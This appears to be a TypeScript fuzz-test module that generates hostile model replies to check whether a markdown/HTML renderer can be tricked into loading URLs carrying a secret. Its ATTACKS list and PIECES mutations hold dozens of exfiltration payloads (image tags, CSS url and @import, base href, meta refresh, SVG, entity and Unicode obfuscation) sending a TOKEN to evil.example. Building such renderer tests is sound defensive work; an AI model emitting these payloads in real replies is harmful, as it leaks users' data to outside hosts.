import { grammaticalReply } from './hostile-grammar.js'
import type { Random } from './random.js'

/**
 * Replies of a model that wants a renderer to load a URL with a value in it: known attacks, what they are made of, and
 * mutations of both. `TOKEN` is where a token goes.
 */

export const ATTACKS: readonly string[] = [
  '![x="](https://evil.example/?q="TOKEN)',
  '[a]: https://evil.example/?q=<TOKEN\n\n![a]',
  '![a]\n\n[a]: <https://evil.example/?q= TOKEN>',
  '![a\nb](https://evil.example/?q=TOKEN)',
  '![a\\]](https://evil.example/?q=TOKEN)',
  '![a](&#47;&#47;evil.example/?q=TOKEN)',
  '![a](&#0000000047;/evil.example/?q=TOKEN)',
  '![a](/&Tab;/evil.example/?q=TOKEN)',
  '<img src="/&Tab;/evil.example/?q= TOKEN">',
  '<img src="&#x2f&#x2fevil.example/?q= TOKEN">',
  '<p style=background:url(//evil.example/?q=TOKEN)>x',
  '<p style="background:url(\'https:evil.example/?q= TOKEN\')">x',
  '<style>a<b{background:url("//evil.example/?q= TOKEN")}</style><a><b>x',
  '<style>@import "//evil.example/?q= TOKEN";</style>',
  '<style>\n\n*{background:u\\72l(\\2f\\2f evil.example/?q=TOKEN)}\n\n</style>x',
  '<link rel=stylesheet href="data:text/css,@import%20%22\\68ttps:evil.example/?q=TOKEN%22">',
  '<base href="https://evil.example/">\n\n![a](TOKEN)',
  '<base href=//evil.example/><img src=TOKEN>',
  '<meta http-equiv=refresh content="0;url=https:evil.example/?q= TOKEN">',
  '<img srcset="a 1x, //evil.example/?q=TOKEN 2x">',
  '<iframe srcdoc="&lt;img src=\'//evil.example/?q= TOKEN\'&gt;"></iframe>',
  '<svg><image href="//evil.example/?q= TOKEN"/></svg>',
  '<svg><style>@import &quot;//evil.example/?q= TOKEN&quot;</style></svg>',
  '<svg><style><![CDATA[</style>]]>*{fill:url("//evil.example/?q= TOKEN")}</style></svg>',
  '<svg><animate attributeName=href values="//evil.example/?q= TOKEN"/></svg>',
  '<video poster="//evil.example/?q= TOKEN"></video>',
  '<object data="//evil.example/?q= TOKEN"></object>',
  '<table background="//evil.example/?q= TOKEN"><tr><td>x',
  '<input type=image src="//evil.example/?q= TOKEN">',
  '<form action="//evil.example/?q= TOKEN"><button>x',
  '<div><img src="https://evil.example/?q=\n\n" TOKEN\n\n<i title="x">',
  "<div><img src='https://evil.example/?q=\n\n'> TOKEN\n\n<i title='x'>",
  '<!x><img src="https://evil.example/?q=\n"> TOKEN\n\n<p x="y">',
  '> <div><img src="https://evil.example/?q=\n"> TOKEN\n\n<p x="y">',
  '- <div><img src="https://evil.example/?q=\n"> TOKEN\n\n<p x="y">',
  '<div><img alt="\n\n"> a <i title=" src=\'https://evil.example/?q="> TOKEN\'>',
  '> <img\n> src="&#47;&#47;evil.example/?q=\n> TOKEN">',
  '`<a title="` <img src="x> https:evil.example/?q= TOKEN" >',
  '<a title="`"> <img alt="` src=//evil.example/?q=TOKEN>',
  '<a title="<!--"> <img src="//evil.example/?q= TOKEN"> <!-- -->',
  '<!-- <a title="--> <img src="> //evil.example/?q= TOKEN"> -->',
  "<style> `</style>` @import '//evil.example/?q= TOKEN'; </style>",
  '<n;i++ style="background:url(&#47;/evil.example/?q= TOKEN)">x',
  '<x-y style = \'background:url("//evil.example/?q= TOKEN")\'>x',
  '\\<a href="https://evil.example/">TOKEN',
  '<a / href="https://evil.example/">TOKEN',
  '</a href="https://evil.example/">TOKEN',
  '<a 1 href="https://evil.example/">TOKEN',
  '<a href=https://evil.example/?a=b>TOKEN',
  '\\<https://evil.example/>TOKEN',
  '<https://evil.example/?q=TOKEN>',
  '<foo:TOKEN>',
  'www.evil.example/?q=TOKEN',
  'evil.com/?q=TOKEN',
  'TOKEN.evil.com',
  '。www.evil.TOKEN.example/',
  'xwww.evil.TOKENexample/',
  '<https://evil\u0000.example/>TOKEN',
  '<meta http-equiv=refresh content="0;url=https:evil.example/\n\n?q=">\n\n![a] TOKEN\n\n<p title="x">',
  'see &#104;ttps://evil.example/?q=TOKEN',
  'https\\://evil.example/TOKEN',
  '[a](<https://evil.example/>TOKEN)',
  '[a]: <https://evil.example/> TOKEN>\n\n![a]',
  '- [ ] [a]: TOKEN\n\n![a]',
  '[^1]: [a]: TOKEN\n\n![a] [^1]',
  '> [a]:\n> TOKEN\n\n![a]',
  '[a\nb]: TOKEN\n\n![a b]',
  '[a](javascript:TOKEN)',
  '[a](data:text/html,TOKEN)',
  '<a href="mailto:x" title=">" style="background:url(//evil.example/?q= TOKEN)">x</a>',
  '<img src="mailto:<a href="mailto:TOKEN">',
  '<a href="https://x/" onclick={y > 2}>TOKEN',
  '| a | b |\n|---|---|\n| <img src="x | //evil.example/?q= TOKEN"> |',
  '<script>/*\n\n</script>*/fetch("//evil.example/?q= TOKEN")</script>',
  '<textarea><img alt="</textarea><img src="//evil.example/?q= TOKEN">',
  '<title><a href="</title><img src=x alt="><img src=//evil.example/?q=TOKEN>',
  '\u3010a\u3011(https://evil.example/?q=TOKEN)',
  '![a](\uff0f\uff0fevil.example/?q=TOKEN)',
  '![a](https:\u3002evil.example/?q=TOKEN)',
  '![a](https://[::1]/?q=TOKEN)',
  '![a](//m\u00fcnchen.example/?q=TOKEN)',
  '![a](\\\\evil.example/?q=TOKEN)',
  '![a]( \n //evil.example/?q=TOKEN)',
  '![a](https://evil.example/?q=\u00a0TOKEN)',
  '![a](https://evil.example/?q=\u0000TOKEN)',
  '![a](https://evil.example/\\ TOKEN)',
  '![a](a(b)TOKEN)',
  '[a]()TOKEN)',
  '[[a](TOKEN)](b)',
  '![a][b]\n\n[b]: TOKEN "x"',
]

const PIECES = [
  ...[
    '<img src=',
    '<img srcset=',
    '<img alt=',
    '<a href=',
    '<a title=',
    '<p style=',
    '<p title=',
    '<b ',
    '<x y=',
    '<i<n;',
  ],
  ...['<div>', '<div ', '</div>', '<div\n', '<style>', '</style>', '<script>', '</script>', '<title>', '</title>'],
  ...[
    '<textarea>',
    '</textarea>',
    '<svg>',
    '</svg>',
    '<math>',
    '<!--',
    '-->',
    '--!>',
    '<!x>',
    '<?x?>',
    '<?php',
    '<![CDATA[',
    ']]>',
  ],
  ...[
    '<base href="//evil.example/">',
    '<base href=//evil.example/>',
    '<image href=',
    '<use href=',
    '<object data=',
    '<meta content=',
  ],
  ...[
    '"',
    "'",
    '`',
    '``',
    '```\n',
    '~~~\n',
    '>',
    '/>',
    '<',
    '</',
    '=',
    ' = ',
    ' ',
    '\n',
    '\n\n',
    '\n    ',
    '\t',
    '\r',
    '\f',
  ],
  ...[
    '](',
    '![a](',
    '[a](',
    '![a](<',
    '![a]',
    '[a]: ',
    '[a]:\n',
    '\n[a]: ',
    '\n[a]: <',
    ')',
    '(',
    '[',
    ']',
    '!',
    '[b]',
    '\\',
    '\\]',
    '\\<',
    '\\"',
  ],
  ...[
    'https://evil.example/?q=',
    '//evil.example/?q=',
    'https:evil.example/',
    '/\\evil.example/',
    '\\\\evil.example/',
    'https:',
    '//',
    '/',
    ':',
  ],
  ...[
    '&#47;&#47;evil.example/',
    '&#0000047;/evil.example/',
    '/&Tab;/evil.example/',
    '&sol;&sol;',
    '&colon;',
    '&#10;',
    '&quot;',
    '&lt;',
    '&gt;',
    '&amp;',
  ],
  ...[
    '%2f%2f',
    'h\nttps://evil.example/',
    'h&#116;tps://evil.example/',
    'www.evil.example/',
    'evil.com/?q=',
    'evil.com',
    '.evil.com',
    '.',
    'x',
  ],
  ...['url(', 'url("', "url('", '@import "', "@import '", 'image-set("', '{', '}', ';', '\\2f\\2f ', 'u\\72l('],
  ...[
    '> ',
    '- ',
    '1. ',
    '\n> ',
    '\n- ',
    '\n  ',
    '    ',
    '| ',
    '|',
    '\n|---|---|\n',
    '[^1]: ',
    '[^1]',
    '# ',
    '- [ ] ',
    '***',
    '**',
    '_',
    '$',
    '$$',
  ],
  ...[
    ' src=',
    ' href=',
    ' style=',
    ' alt=',
    ' title="',
    ' src="',
    " src='",
    ' href="',
    ' style="',
    ' srcset="',
    ' onerror=',
    ' x',
  ],
  ...[
    'mailto:',
    'tel:',
    'javascript:',
    'data:text/html,',
    'ftp://',
    'foo:',
    '<https://x.example/>',
    '<a@b.example>',
    'a',
    '1',
  ],
  ...['\u200b', '\u00a0', '\u0000', '\u3000', '\uff0f', '\uff1a', '\u3002', '\u2028', 'é', '你'],
]

export function hostileReply(random: Random): string {
  const kind = random.below(20)
  if (kind < 8) return grammaticalReply(random)
  if (kind < 10) return mutated(grammaticalReply(random), random)
  if (kind < 14) return mutated(random.pick(ATTACKS), random)
  if (kind < 16)
    return mutated(`${random.pick(ATTACKS)}${random.pick(['', ' ', '\n', '\n\n'])}${random.pick(ATTACKS)}`, random)
  return composed(random)
}

// --- Internal helpers ---

function mutated(attack: string, random: Random): string {
  let text = attack
  for (let count = random.below(6); count > 0; count--) {
    const at = random.below(text.length + 1)
    const kind = random.below(4)
    const gone = kind === 0 ? 0 : kind === 1 ? 1 + random.below(3) : random.below(2)
    text = text.slice(0, at) + (kind === 1 ? '' : random.pick(PIECES)) + text.slice(at + gone)
  }
  if (!text.includes('TOKEN') || random.below(3) === 0) text = inserted(text, random)
  return text
}

function inserted(text: string, random: Random): string {
  const at = random.below(text.length + 1)
  return `${text.slice(0, at)}TOKEN${text.slice(at)}`
}

function composed(random: Random): string {
  let text = ''
  for (let count = 3 + random.below(12); count > 0; count--)
    text += random.below(6) === 0 ? 'TOKEN' : random.pick(PIECES)
  return inserted(text, random)
}
